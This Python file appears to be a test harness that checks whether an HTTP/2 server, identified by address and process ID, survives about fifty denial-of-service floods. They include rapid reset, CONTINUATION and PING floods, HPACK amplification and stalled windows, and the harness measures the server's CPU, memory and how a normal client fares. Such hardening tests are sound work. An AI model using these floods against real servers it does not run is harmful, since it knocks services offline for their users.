"""Clients of HTTP/2 that make a server work without asking for anything, or that keep what they are given.

Usage: http2_attacks.py HOST:PORT PID [NAME…]. Beside each attack a well-behaved client asks again and again over a
connection of its own. One line is printed for each attack: whether it was ended, after how many frames and seconds, what
the process PID took of the processor and how much its memory grew, and the slowest answer the other client saw.
`ok` says that the attack was ended or cost nothing, that memory stayed within bounds and that the other client was served.
The server's time-outs are to be 2 seconds or less. The exit code is 1 when an attack succeeded, 77 when hpack is missing.
"""

import os
import random
import sys
import threading
import time

from http2_frames import *

ADDRESS = None
PID = 0
# What one attack may take.
SECONDS = 12
FRAMES = 150_000
# What a hostile connection may hold, in KiB. How much the worker may do for it while others wait, in seconds of its processor,
# which do not depend on what else the machine does; and how long they may wait at all.
MOST_MEMORY = 8 * 1024
MOST_AHEAD = 0.15
MOST_WAITING = 10.0

ATTACKS = {}


def attack(*, ends=True, connects=True):
    """`ends`: the server must end the connection, otherwise it may bear it. `connects`: the attack is given a connection,
    otherwise it makes its own."""

    def add(function):
        ATTACKS[function.__name__] = (function, ends, connects)
        return function

    return add


class Ended(Exception):
    """The server has closed the connection, or said GOAWAY with an error."""


class Attacker(Connection):
    """Sends without waiting; sees that it was ended, and what for."""

    def __init__(self, settings=b"", reads=True, **how):
        self.sent = 0
        super().__init__(ADDRESS, settings, **how)
        self.reads = reads
        self.until_when = time.monotonic() + SECONDS
        self.code = None

    def flush(self, data):
        """Sends; reads what there is, so that no window of the socket is in the way."""
        self.socket.settimeout(0.2)
        view = memoryview(data)
        while view:
            self.look()
            try:
                view = view[self.socket.send(view) :]
            except TimeoutError:
                if not self.reads:
                    return False
            except OSError:
                raise Ended from None
        return True

    def look(self):
        if time.monotonic() > self.until_when:
            raise TimeoutError
        if not self.reads:
            return
        self.socket.setblocking(False)
        try:
            while True:
                more = self.socket.recv(1 << 16)
                if not more:
                    raise Ended
                self.buffer = (self.buffer + more)[-(1 << 17) :]
        except BlockingIOError:
            pass
        except OSError:
            raise Ended from None
        finally:
            self.socket.settimeout(0.2)

    def wait(self):
        """Until it is ended."""
        while True:
            self.look()
            time.sleep(0.02)

    def many(self, make, count=FRAMES, batch=50, pause=0.0):
        """`make(number)` gives bytes; they are sent until the server has had enough."""
        for first in range(0, count, batch):
            got = [make(number) for number in range(first, first + batch)]
            self.sent += batch
            self.flush(b"".join(got))
            if pause:
                time.sleep(pause)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# :method GET, :scheme http, :path /, :authority a, without any use of the dynamic table.
GET = b"\x82\x86\x84\x01\x01a"
POST = b"\x83\x86\x84\x01\x01a"
LARGE = b"\x82\x86\x04\x06/large\x01\x01a"
WHOLE = END_STREAM | END_HEADERS


def odd(number):
    return 2 * number + 1


# Streams that are asked for and reset.

@attack()
def rapid_reset(one):
    one.many(lambda n: frame(HEADERS, WHOLE, odd(n), GET) + frame(RST_STREAM, 0, odd(n), word(CANCEL)))


@attack()
def rapid_reset_one_by_one(one):
    one.many(lambda n: frame(HEADERS, WHOLE, odd(n), LARGE) + frame(RST_STREAM, 0, odd(n), word(CANCEL)), batch=1)


@attack()
def rapid_reset_of_uploads(one):
    one.many(lambda n: frame(HEADERS, END_HEADERS, odd(n), POST) + frame(RST_STREAM, 0, odd(n), word(CANCEL)), batch=10)


@attack()
def reset_by_an_empty_window_update(one):
    one.many(lambda n: frame(HEADERS, END_HEADERS, odd(n), POST) + frame(WINDOW_UPDATE, 0, odd(n), word(0)))


@attack()
def reset_by_too_large_a_window(one):
    one.many(lambda n: frame(HEADERS, END_HEADERS, odd(n), POST) + frame(WINDOW_UPDATE, 0, odd(n), word(MOST_WINDOW)))


@attack()
def reset_by_data_after_the_end(one):
    one.many(lambda n: frame(HEADERS, WHOLE, odd(n), GET) + frame(DATA, 0, odd(n), b"x"))


@attack()
def reset_by_a_false_length(one):
    block = POST + b"\x0f\x0d\x011"
    one.many(lambda n: frame(HEADERS, END_HEADERS, odd(n), block) + frame(DATA, END_STREAM, odd(n), b"four"))


@attack()
def malformed_requests(one):
    one.many(lambda n: frame(HEADERS, WHOLE, odd(n), GET + b"\x00\x0aconnection\x05close"))


@attack()
def streams_beyond_the_bound(one):
    one.many(lambda n: frame(HEADERS, END_HEADERS, odd(n), POST))


@attack()
def resets_of_closed_streams(one):
    one.flush(frame(HEADERS, WHOLE, 1, GET))
    time.sleep(0.1)
    one.many(lambda _: frame(RST_STREAM, 0, 1, word(CANCEL)))


# Frames that ask for nothing.

@attack()
def continuation_without_end(one):
    one.flush(frame(HEADERS, END_STREAM, 1, GET))
    one.many(lambda n: frame(CONTINUATION, 0, 1, b"\x00\x02aa\x08aaaaaaaa" * 100))


@attack()
def continuation_without_content(one):
    one.flush(frame(HEADERS, END_STREAM, 1, GET))
    one.many(lambda n: frame(CONTINUATION, 0, 1))


@attack()
def settings_without_end(one):
    one.many(lambda n: frame(SETTINGS, 0, 0))


@attack()
def settings_with_many_entries(one):
    one.many(lambda n: frame(SETTINGS, 0, 0, setting(0xFF, n & 0xFFFF) * 2000), batch=5)


@attack()
def windows_that_flap(one):
    """Each SETTINGS changes the windows of 100 streams."""
    one.flush(b"".join(frame(HEADERS, END_HEADERS, odd(n), POST) for n in range(100)))
    one.many(lambda n: frame(SETTINGS, 0, 0, setting(WINDOW, 1 + n % 2)))


@attack()
def acknowledgements_of_nothing(one):
    one.many(lambda n: frame(SETTINGS, ACK, 0))


@attack()
def pings_without_end(one):
    one.many(lambda n: frame(PING, 0, 0, b"8 bytes!"))


@attack()
def answers_to_no_ping(one):
    one.many(lambda n: frame(PING, ACK, 0, b"8 bytes!"))


@attack()
def priorities_without_end(one):
    one.many(lambda n: frame(PRIORITY, 0, odd(n), b"\0\0\0\0\x0f"))


@attack()
def unknown_frames(one):
    one.many(lambda n: frame(0x77, 0, 0, b"?"))


@attack()
def unknown_large_frames(one):
    one.many(lambda n: frame(0x77, 0, 0, b"?" * 16000), batch=5)


@attack()
def windows_of_one_byte(one):
    one.many(lambda n: frame(WINDOW_UPDATE, 0, 0, word(1)))


@attack()
def windows_of_one_byte_for_a_stream(one):
    one.flush(frame(HEADERS, END_HEADERS, 1, POST))
    one.many(lambda n: frame(WINDOW_UPDATE, 0, 1, word(1)))


@attack()
def goaway_without_end(one):
    one.many(lambda n: frame(GOAWAY, 0, 0, word(0) + word(0)))


@attack()
def data_without_content(one):
    one.flush(frame(HEADERS, END_HEADERS, 1, POST))
    one.many(lambda n: frame(DATA, 0, 1))


@attack()
def data_of_padding_only(one):
    one.flush(frame(HEADERS, END_HEADERS, 1, POST))
    one.many(lambda n: frame(DATA, PADDED, 1, b"\xff" + bytes(255)))


@attack()
def data_for_a_stream_that_was_reset(one):
    one.flush(frame(HEADERS, END_HEADERS, 1, POST) + frame(RST_STREAM, 0, 1, word(CANCEL)))
    one.many(lambda n: frame(DATA, 0, 1, b"d" * 1000))


@attack()
def data_beyond_the_window(one):
    one.flush(frame(HEADERS, END_HEADERS, 1, POST))
    one.many(lambda n: frame(DATA, 0, 1, b"d" * 16000), batch=20)


# Fields that are small on their way and large at their end.

@attack(ends=False)
def fields_by_reference(one):
    """One entry of 4,000 bytes, named 3,000 times in each request."""
    one.flush(frame(HEADERS, WHOLE, 1, GET + b"\x40\x01x\x7f\xa1\x1e" + b"v" * 4000))
    one.many(lambda n: frame(HEADERS, WHOLE, odd(n + 1), GET + b"\xbe" * 3000), count=2000)


@attack(ends=False)
def many_cookies(one):
    one.many(lambda n: frame(HEADERS, WHOLE, odd(n), GET + b"\x0f\x11\x03a=b" * 2500), count=1000, batch=2)


@attack(ends=False)
def many_fields(one):
    one.many(lambda n: frame(HEADERS, WHOLE, odd(n), GET + b"\x00\x01a\x01b" * 3000), count=1000, batch=2)


@attack(ends=False)
def a_table_that_is_thrashed(one):
    big = b"\x40\x01x\x7f\x81\x1e" + b"v" * 3968
    one.many(lambda n: frame(HEADERS, WHOLE, odd(n), b"\x20\x3f\xe1\x1f" + GET + big * 3), count=5000, batch=4)


@attack()
def blocks_without_fields(one):
    one.many(lambda n: frame(HEADERS, WHOLE, odd(n)))


# Windows and sockets that stand still.

@attack(connects=False)
def windows_of_nothing():
    one = Attacker(setting(WINDOW, 0))
    one.flush(b"".join(frame(HEADERS, WHOLE, odd(n), LARGE) for n in range(100)))
    one.sent = 100
    one.wait()


@attack(ends=False, connects=False)
def windows_that_open_by_a_byte():
    one = Attacker(setting(WINDOW, 0))
    one.flush(b"".join(frame(HEADERS, WHOLE, odd(n), LARGE) for n in range(100)))
    one.many(lambda n: frame(WINDOW_UPDATE, 0, odd(n % 100), word(1)), batch=10, pause=0.01)


@attack(connects=False)
def a_socket_that_is_not_read():
    one = Attacker(setting(WINDOW, MOST_WINDOW), reads=False)
    one.flush(frame(WINDOW_UPDATE, 0, 0, word(MOST_WINDOW - 65535)))
    one.flush(b"".join(frame(HEADERS, WHOLE, odd(n), LARGE) for n in range(100)))
    one.sent = 100
    time.sleep(6)
    one.reads = True
    one.wait()


@attack(connects=False)
def acknowledgements_that_are_not_read():
    one = Attacker(reads=False)
    for _ in range(400):
        one.sent += 100
        if not one.flush(frame(PING, 0, 0, b"8 bytes!") * 100):
            break
    time.sleep(6)
    one.reads = True
    one.wait()


@attack()
def an_upload_that_stops(one):
    one.flush(b"".join(frame(HEADERS, END_HEADERS, odd(n), POST) + frame(DATA, 0, odd(n), b"d" * 100) for n in range(100)))
    one.sent = 200
    streams = set()
    one.socket.settimeout(SECONDS)
    while len(streams) < 90:
        kind, flags, stream, _ = one.next()
        if kind == RST_STREAM or flags & END_STREAM and kind in (HEADERS, DATA):
            streams.add(stream)
    raise Ended


@attack(connects=False)
def a_preface_that_stops():
    one = Attacker(greets=False)
    one.flush(PREFACE[:17])
    one.wait()


@attack()
def half_a_frame(one):
    one.flush(frame(HEADERS, WHOLE, 1, GET)[:12])
    one.wait()


@attack()
def a_block_that_does_not_end(one):
    one.flush(frame(HEADERS, END_STREAM, 1, GET))
    one.wait()


@attack()
def a_block_that_drips(one):
    one.flush(frame(HEADERS, END_STREAM, 1, GET))
    one.many(lambda n: frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"), batch=1, pause=0.2)


@attack()
def nothing_at_all(one):
    one.wait()


# What is no HTTP/2.

@attack()
def a_frame_of_16_megabytes(one):
    one.flush(b"\xff\xff\xff\0\0\0\0\0\1" + b"x" * 100000)
    one.wait()


@attack(connects=False)
def noise():
    for seed in range(8):
        one = Attacker()
        noise = random.Random(seed).randbytes(4000)
        try:
            one.sent += 1
            one.flush(noise)
            one.until_when = time.monotonic() + 6
            one.wait()
        except Ended:
            continue
    raise Ended


@attack()
def an_older_version(one):
    one.flush(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 10)
    one.wait()


class Other(threading.Thread):
    """A client that behaves."""

    def __init__(self):
        super().__init__(daemon=True)
        self.worst = 0.0
        self.ahead = 0.0
        self.failure = None
        self.is_over = False

    def run(self):
        try:
            while not self.is_over:
                connection = Connection(ADDRESS)
                for number in range(30):
                    begin, worked = time.monotonic(), processor()
                    connection.ask(odd(number))
                    connection.answer(odd(number))
                    connection.body(odd(number))
                    self.worst = max(self.worst, time.monotonic() - begin)
                    self.ahead = max(self.ahead, processor() - worked)
                    time.sleep(0.01)
                    if self.is_over:
                        break
                connection.socket.close()
        except (AssertionError, Gone, OSError) as error:
            self.failure = f"{type(error).__name__} {error}"


def memory():
    with open(f"/proc/{PID}/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS"))


def processor():
    with open(f"/proc/{PID}/schedstat") as stat:
        return int(stat.read().split()[0]) / 1e9


def run(name):
    function, must_end, connects = ATTACKS[name]
    other = Other()
    other.start()
    before, worked, began = memory(), processor(), time.monotonic()
    peak, watched = [before], threading.Event()

    def watch():
        while not watched.wait(0.02):
            peak[0] = max(peak[0], memory())

    threading.Thread(target=watch, daemon=True).start()
    one, ended = None, False
    try:
        if connects:
            one = Attacker()
            function(one)
        else:
            function()
    except (Ended, Gone):
        ended = True
    except (TimeoutError, AssertionError):
        pass
    seconds = time.monotonic() - began
    watched.set()
    other.is_over = True
    other.join()
    grown, busy = peak[0] - before, processor() - worked
    faults = [
        f"not ended in {seconds:.1f} s" if must_end and not ended else "",
        f"memory +{grown} KiB" if grown > MOST_MEMORY else "",
        f"others waited for {other.ahead:.2f} s of work" if other.ahead > MOST_AHEAD else "",
        f"others waited {other.worst:.2f} s" if other.worst > MOST_WAITING else "",
        f"others failed: {other.failure}" if other.failure else "",
    ]
    faults = ", ".join(fault for fault in faults if fault)
    sent = "" if one is None else f"{one.sent} times, "
    what = f"{'ended' if ended else 'borne'}: {sent}{seconds:.2f} s, {busy:.2f} s of work, +{grown} KiB, others {other.worst * 1000:.0f} ms, {other.ahead * 1000:.0f} ms of work"
    print(f"FAIL {name}: {faults} ({what})" if faults else f"ok {name} {what}", flush=True)
    return not faults


def main():
    global ADDRESS, PID
    host, _, port = sys.argv[1].rpartition(":")
    ADDRESS, PID = (host, int(port)), int(sys.argv[2])
    wanted = sys.argv[3:] or ATTACKS
    results = [run(name) for name in wanted]
    sys.exit(not all(results))


main()
